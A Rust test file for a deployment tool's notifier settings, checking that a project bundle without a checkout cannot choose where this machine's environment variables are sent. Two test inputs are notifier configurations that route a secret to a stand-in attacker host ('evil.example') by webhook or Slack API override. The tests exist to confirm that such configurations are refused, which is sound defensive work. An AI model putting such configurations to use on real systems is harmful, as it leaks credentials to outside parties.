//! Whom a project may make this machine tell, and with what.

use super::*;

fn notifier(yaml: &str, root: Option<&std::path::Path>) -> Result<(), String> {
    let screen = crate::report::tests::Screen::default();
    let mut env = screen.env();
    env.variables
        .insert("KEY".to_owned(), "https://hooks.example.com/a".to_owned());
    let text = format!("app: shop\nenvironments: {{staging: {{}}}}\nnotify:\n  team: {yaml}\n");
    let mut project = Project::from_bundle(Bundle::new([(
        "deploy/deploy.yaml".to_owned(),
        text.into_bytes(),
    )]))
    .unwrap();
    project.root = root.map(std::path::Path::to_owned);
    let redactor = Redactor::default();
    let settings = Settings::new(&project, &env, &redactor);
    let made = settings.notifier(&project.spec.notify["team"]);
    assert!(
        made.is_err() || redactor.finds("https://hooks.example.com/a"),
        "what is read is learnt"
    );
    made.map(drop).map_err(|problem| problem.message)
}

#[test]
fn a_release_cannot_choose_where_variables_of_this_machine_are_sent() {
    let chosen = [
        "{webhook: {url: 'https://evil.example', secrets: {a: {env: KEY}}}}",
        "{slack: {token: {env: KEY}, channel: a, api: 'https://evil.example'}}",
    ];
    for yaml in chosen {
        assert!(
            notifier(yaml, None)
                .unwrap_err()
                .contains("without a checkout"),
            "{yaml}"
        );
        assert_eq!(notifier(yaml, Some("/nowhere".as_ref())), Ok(()), "{yaml}");
    }
    for yaml in [
        "{slack: {webhook: {env: KEY}}}",
        "{slack: {token: {env: KEY}, channel: a, api: 'https://slack-gov.com/api/'}}",
        "{webhook: {url: {env: KEY}, secrets: {a: {env: KEY}}}}",
    ] {
        assert_eq!(notifier(yaml, None), Ok(()), "{yaml}");
    }
}

#[test]
fn files_are_read_from_a_checkout_only() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("deploy")).unwrap();
    std::fs::write(
        folder.path().join("deploy/hook"),
        "https://hooks.example.com/a\n",
    )
    .unwrap();
    let yaml = "{teams: {webhook: {file: hook}}}";
    assert_eq!(notifier(yaml, Some(folder.path())), Ok(()));
    assert!(
        notifier(yaml, None)
            .unwrap_err()
            .contains("with a checkout only")
    );
    let missing = "{teams: {webhook: {file: other}}}";
    assert!(
        notifier(missing, Some(folder.path()))
            .unwrap_err()
            .contains("cannot be read")
    );
}
